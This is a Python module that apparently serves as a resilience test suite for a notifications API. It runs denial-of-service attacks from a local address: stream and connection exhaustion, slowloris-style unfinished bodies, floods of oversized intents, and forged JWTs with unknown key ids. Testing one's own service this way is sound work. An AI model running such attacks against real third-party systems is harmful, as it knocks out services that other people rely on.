"""The attacks, each from one address, against a process of the API. An attack runs in a process of its own with the lowest priority.

Each function takes a Target and works until it is cancelled. It counts the answers by their status.
"""

import asyncio
import collections
import dataclasses
import itertools
import json
import multiprocessing
import os
import resource
import secrets
import socket
import struct
import time

import signer

ADDRESS = "127.0.0.66"  # the address of the attacker; other people have others
TENANT = "eve"
PAUSE = 0.2  # seconds before a connection that was closed is opened again


@dataclasses.dataclass
class Target:
    host: str
    port: int
    tokens: list  # of people whom the attacker is
    key: str  # with intents:write, of the attacker's tenant
    answers: collections.Counter = dataclasses.field(default_factory=collections.Counter)


def start(attack, target, seconds):
    """Starts an attack. Returns its process, and the end of a pipe on which the answers come."""
    here, there = multiprocessing.get_context("fork").Pipe(duplex=False)
    process = multiprocessing.get_context("fork").Process(target=work, args=(attack, target, seconds, there), daemon=True)
    process.start()
    there.close()
    return process, here


def work(attack, target, seconds, pipe):
    os.nice(19)  # its own work must not take the cores from the servers
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(limited(attack, target, seconds))
    pipe.send(target.answers)
    pipe.close()


async def limited(attack, target, seconds):
    try:
        async with asyncio.timeout(seconds):
            await attack(target)
    except TimeoutError:
        pass


async def many(count, connection):
    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(connection(number))


async def again(target, exchange):
    """Opens a connection, uses it until it is closed, and opens the next one."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=(ADDRESS, 0))
        except OSError:
            target.answers["no connection"] += 1
            await asyncio.sleep(1)
            continue
        try:
            await exchange(reader, writer)
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError):
            target.answers["closed"] += 1
        finally:
            writer.transport.abort()
        await asyncio.sleep(PAUSE)


async def answer(target, reader, has_body=True):
    """Reads an answer, and counts it. Returns its headers."""
    head = await reader.readuntil(b"\r\n\r\n")
    status, *lines = head.decode("latin-1").split("\r\n")
    headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines)}
    target.answers[status.split(" ")[1]] += 1
    if has_body and "content-length" in headers:
        await reader.readexactly(int(headers["content-length"]))
    return headers


def request(method, path, credentials=None, *headers, body=b""):
    lines = [f"{method} {path} HTTP/1.1", "Host: api.example", *headers]
    lines += [f"Authorization: Bearer {credentials}"] if credentials else []
    lines += [f"Content-Length: {len(body)}"] if body else []
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


async def flood(target, count, make, has_body=True):
    """Sends requests over some connections, as fast as they are answered."""
    numbers = itertools.count()

    async def exchange(reader, writer):
        while True:
            writer.write(make(next(numbers)))
            await writer.drain()
            headers = await answer(target, reader, has_body)
            if headers.get("connection") == "close":
                return

    await many(count, lambda _: again(target, exchange))


# S1: streams that nobody reads

async def heads_of_streams(target):
    make = lambda number: request("HEAD", "/api/notifications/stream", target.tokens[number % len(target.tokens)])
    await flood(target, 8, make, has_body=False)


async def streams_reset_at_once(target):
    for number in itertools.count():
        with socket.socket() as connection:
            connection.settimeout(5)
            try:
                connection.bind((ADDRESS, 0))
                connection.connect((target.host, target.port))
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                connection.sendall(request("GET", "/api/notifications/stream", target.tokens[number % len(target.tokens)]))
                target.answers["reset"] += 1
            except OSError:
                target.answers["closed"] += 1
        await asyncio.sleep(0)


# S2: every connection of a process

async def streams_of_one_person(target):
    async def exchange(reader, writer):
        writer.write(request("GET", "/api/notifications/stream", target.tokens[0]))
        await answer(target, reader)
        while await reader.read(65_536):
            pass

    await many(1_200, lambda _: again(target, exchange))


async def idle_connections(target):
    async def exchange(reader, writer):
        while True:
            writer.write(request("GET", "/nothing"))
            if (await answer(target, reader)).get("connection") == "close":
                return
            await asyncio.sleep(5)

    await many(1_200, lambda _: again(target, exchange))


# S3: bytes in memory

def slow_body(target, head, size):
    """A body whose last byte never comes."""
    async def exchange(reader, writer):
        async def send():
            writer.write(head)
            for part in range(0, size - 1, 65_536):
                writer.write(b"1" * min(65_536, size - 1 - part))
                await writer.drain()

        sending = asyncio.create_task(send())
        try:
            await answer(target, reader)
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)

    return exchange


async def slow_callbacks(target):
    size = 256 * 1024
    signature = f"X-Signature: {secrets.token_hex(32)}"
    head = request("POST", "/v1/callbacks/dmp", None, "Content-Type: application/json", signature, f"Content-Length: {size}")
    await many(900, lambda _: again(target, slow_body(target, head, size)))


async def slow_intents(target):
    size = 4 * 1024 * 1024
    kind = "Content-Type: application/cloudevents-batch+json"
    head = request("POST", "/v1/intents", target.key, kind, f"Content-Length: {size}")
    await many(100, lambda _: again(target, slow_body(target, head, size)))


async def pages_read_slowly(target):
    async def exchange(reader, writer):
        writer.write(request("GET", "/api/notifications?limit=100", target.tokens[0]))
        head = await reader.readuntil(b"\r\n\r\n")
        target.answers[head.split(b" ")[1].decode()] += 1
        while await reader.read(20_000):
            await asyncio.sleep(0.1)

    await many(30, lambda _: again(target, exchange))


# S4: a key at full speed

async def large_intents(target):
    """Intents with many rows."""
    await flood_of_intents(target, 1_000, 0)


async def heavy_intents(target):
    """Intents with few rows of many bytes."""
    await flood_of_intents(target, 10, 200_000)


async def small_intents(target):
    """More intents for one person than the allowance of a tenant."""
    await flood_of_intents(target, 1, 0)


async def flood_of_intents(target, recipients, filling):
    people = [f"crowd-{number}" for number in range(recipients)]
    run = secrets.token_hex(4)

    def make(number):
        data = {"recipients": people, "tenant": TENANT, "title": "Sale", "channels": ["inApp"], "data": {"filling": "x" * filling}}
        event = {"specversion": "1.0", "id": f"{run}-{number}", "source": "/load/attack", "type": "orderUpdate", "data": data}
        body = json.dumps(event).encode()
        return request("POST", "/v1/intents", target.key, "Content-Type: application/cloudevents+json", body=body)

    await flood(target, 64, make)


# S12: credentials that nobody has

async def wrong_credentials(target):
    head, claims, _ = target.tokens[0].split(".")

    def make(number):
        match number % 3:
            case 0: return request("GET", "/v1/recipients/a", f"tid_{secrets.token_hex(8)}_{secrets.token_urlsafe(32)}")
            case 1: return request("GET", "/api/notifications", f"{head}.{claims}.{secrets.token_urlsafe(256)}")
            case _: return request("GET", "/api/notifications", unknown_key(secrets.token_hex(4), number))

    await flood(target, 200, make)


async def tokens_of_one_unknown_key(target):
    """The crowd of a key that was withdrawn: one key, and a token of its own in each request."""
    key = secrets.token_hex(4)
    await flood(target, 200, lambda number: request("GET", "/api/notifications", unknown_key(key, number)))


def unknown_key(key, number):
    """A token of a key that the login service does not have. Without that key, nobody can tell a signature from random bytes."""
    head = {"alg": "RS256", "typ": "JWT", "kid": key}
    claims = {"iss": signer.ISSUER, "aud": signer.AUDIENCE, "sub": "eve-0", "tenant": TENANT, "jti": str(number)}
    claims["exp"] = int(time.time()) + 3600
    parts = [signer.encoded(json.dumps(part).encode()) for part in (head, claims)]
    return ".".join([*parts, signer.encoded(secrets.token_bytes(256))])
